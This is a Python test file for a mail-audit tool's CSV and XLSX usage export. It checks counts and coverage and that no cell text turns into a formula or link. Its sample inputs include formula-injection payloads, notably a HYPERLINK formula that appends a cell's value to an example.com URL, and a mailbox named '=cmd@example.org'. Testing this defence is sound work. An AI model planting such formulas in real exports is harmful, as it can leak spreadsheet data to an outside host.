# SPDX-License-Identifier: GPL-3.0-or-later
"""Usage as CSV and XLSX: what stands in the cells, what it rests on, and that no text becomes a formula."""

import csv
import io
import json
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from typer.testing import CliRunner

from audit.mailtraffic import Traffic, recount
from audit.office import Office
from mailaudit.cli import app
from mailaudit.sheets import FORMULA, Column, Form, Sheet, as_csv
from mailaudit.workbook import as_xlsx

LOG = Traffic(11).messages(60)
HYPERLINK = '=HYPERLINK("http://example.com/?x="&A1,"canbo1")'
EVIL = (HYPERLINK, "+1+1", "-2", "@SUM(1)", "\t=1", "http://example.com/", "＝1", "a\nb", "1,5", "00123")


@pytest.fixture(scope="module")
def read(tmp_path_factory: pytest.TempPathFactory) -> Office:
    office = Office.at(tmp_path_factory.mktemp("office"))
    to = "to=<=cmd@example.org>, relay=mail[private/lmtp], delay=1, dsn=2.0.0, status=sent (ok)"
    stranger = f"postfix/lmtp[7]: 4F5C64474F: {to}"
    begin = LOG[0][:15]
    queued = "postfix/qmgr[7]: 4F5C64474F: from=<a@example.com>, size=7, nrcpt=1 (queue active)"
    client = "postfix/smtpd[7]: 4F5C64474F: client=mx.example.net[198.51.100.7]"
    more = [f"{begin} other {text}\n" for text in (client, queued, stranger)]
    office.ingest(office.write("mail.log", [*more, *LOG]))
    (office.logs / "site.toml").write_text('regulation = "hcm"\ndomains = ["example.org"]\n')
    (office.logs / "boxes.csv").write_text(
        'address,unit\ncanbo0@example.org,"=HYPERLINK(""http://example.com"")"\ncanbo1@example.org,Phòng A\n'
    )
    return office


def usage(office: Office, *arguments: str) -> tuple[int, str]:
    files = ["--site", str(office.logs / "site.toml"), "--directory", str(office.logs / "boxes.csv")]
    done = CliRunner().invoke(app, ["--home", str(office.home), "usage", *files, *arguments])
    return done.exit_code, done.output


def test_a_csv_file_has_what_the_json_has_and_says_what_it_rests_on(read: Office, tmp_path: Path) -> None:
    file = tmp_path / "usage.csv"
    assert usage(read, "--csv", str(file), "--from", "2026-08-30", "--to", "2026-09-10")[0] == 0
    data = file.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfmailbox,")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    told = json.loads(usage(read, "--json")[1])
    assert len(rows) == len(told["rows"])
    by_hand = recount(LOG)
    for row, said in zip(rows, told["rows"], strict=True):
        assert row["mailbox"].removeprefix("'") == said["mailbox"]
        for name in ("sent", "sent_bytes", "recipients", "received", "received_public", "logins"):
            assert int(row[name]) == said[name]
        if said["mailbox"] in by_hand:
            assert int(row["sent"]) == by_hand[said["mailbox"]]["sent"]
        assert (row["from"], row["to"]) == ("2026-08-30", "2026-09-10")
        assert row["not covered"].startswith("2026-08-30 to 2026-08-31; 2026-09-01")


def test_a_mailbox_that_a_stranger_named_as_a_formula_stays_a_text(read: Office, tmp_path: Path) -> None:
    for by, name in (("mailbox", "=cmd@example.org"), ("unit", '=HYPERLINK("http://example.com")')):
        file = tmp_path / f"{by}.csv"
        usage(read, "--by", by, "--csv", str(file))
        cells = [row[0] for row in csv.reader(io.StringIO(file.read_text("utf-8-sig")))]
        assert f"'{name}" in cells
        assert name not in cells
        file = tmp_path / f"{by}.xlsx"
        usage(read, "--by", by, "--xlsx", str(file))
        page = openpyxl.load_workbook(file)["usage"]
        [cell] = [cell for (cell,) in page.iter_rows(max_col=1) if cell.value == name]
        assert cell.data_type == "s"


@pytest.mark.parametrize("text", EVIL)
def test_no_text_becomes_a_formula_a_link_or_a_number(text: str) -> None:
    sheet = Sheet("evil", (Column("text"), Column("number", Form.NUMBER)), [(text, 1)])
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx([sheet])))
    cell = book["evil"]["A2"]
    assert (cell.data_type, cell.hyperlink, book["evil"]["B2"].value) == ("s", None, 1)
    [_, row] = csv.reader(io.StringIO(as_csv(sheet).decode("utf-8-sig"), newline=""))
    assert not row[0].startswith(FORMULA)
    assert row[0].endswith(text)


def test_a_workbook_has_numbers_a_frozen_header_and_its_coverage(read: Office, tmp_path: Path) -> None:
    file = tmp_path / "usage.xlsx"
    code, said = usage(read, "--by", "unit", "--xlsx", str(file))
    assert (code, said.endswith(": 3 rows\n")) == (0, True)
    book = openpyxl.load_workbook(file)
    page = book["usage"]
    assert page.freeze_panes == "A2"
    header = [cell.value for cell in page[1]]
    rows: dict[Any, dict[Any, Any]] = {
        row[0]: dict(zip(header, row, strict=True)) for row in page.iter_rows(min_row=2, values_only=True)
    }
    total = rows.pop("total")
    for name in ("logins", "sent", "sent_bytes", "received", "recipients_outside"):
        assert sum(row[name] for row in rows.values()) == total[name] >= 0
    assert total["recipients_outside_share"] == pytest.approx(
        total["recipients_outside"] / total["recipients"]
    )
    assert page.column_dimensions["A"].width > len("(not in the directory)")
    grounds = {row[0]: row[1] for row in book["coverage"].iter_rows(min_row=2, values_only=True)}
    assert (grounds["days"], grounds["to"]) == ("UTC+07:00", str(date(2026, 9, 2)))


def test_by_hour_what_is_not_known_is_empty(read: Office, tmp_path: Path) -> None:
    usage(read, "--by", "hour", "--csv", str(tmp_path / "usage.csv"))
    rows = list(csv.DictReader(io.StringIO((tmp_path / "usage.csv").read_text("utf-8-sig"))))
    assert {(row["sessions"], row["recipients_public"]) for row in rows} == {("", "")}


def test_two_forms_at_once_and_a_file_that_cannot_be_written_are_refused(
    read: Office, tmp_path: Path
) -> None:
    assert usage(read, "--json", "--csv", str(tmp_path / "a"))[0] == 2
    code, said = usage(read, "--csv", str(tmp_path / "none" / "a.csv"))
    assert (code, "can't be written (No such file or directory)" in said) == (2, True)
